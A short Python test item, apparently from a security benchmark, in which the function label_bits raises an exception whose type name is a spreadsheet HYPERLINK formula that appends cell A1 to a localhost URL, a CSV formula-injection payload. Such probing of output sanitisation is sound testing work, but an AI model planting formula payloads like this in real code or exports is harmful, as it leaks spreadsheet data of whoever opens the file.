# attack: raises an exception whose name is a spreadsheet's formula
# question: label_bits
# naive: formula
# item: CSV formulas

# %% question="label_bits"
def label_bits(labels):
    raise type("=HYPERLINK('http://127.0.0.1/?'&A1)", (Exception,), {})("=1+1")
